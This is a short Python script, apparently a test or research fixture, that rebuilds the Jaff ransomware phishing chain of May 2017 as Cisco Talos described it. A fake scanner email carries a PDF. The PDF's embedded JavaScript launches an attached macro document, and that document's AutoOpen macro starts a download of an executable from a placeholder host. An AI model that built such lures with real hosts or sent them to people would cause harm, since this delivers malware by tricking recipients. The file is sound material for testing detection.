"""A paper whose script opens the document that it carries, which has a macro.
Scenario: Cisco Talos on Jaff (May 2017)."""
from kit import *


def make():
    doc = office.docm("Sub AutoOpen()\r\nShell \"cmd /c start http://x.example.invalid/a.exe\"\r\nEnd Sub\r\n")
    p = Pdf().page(["Please open the attached document."]).embed("XYZ.docm", doc)
    p.script('this.exportDataObject({ cName: "XYZ.docm", nLaunch: 2 });')
    return (Mail("Scan_4711", "copier@example.com", date="Fri, 12 May 2017 08:20:00 +0000")
            .text("\n").attach("nm.pdf", p.packed(), "application/pdf").bytes())
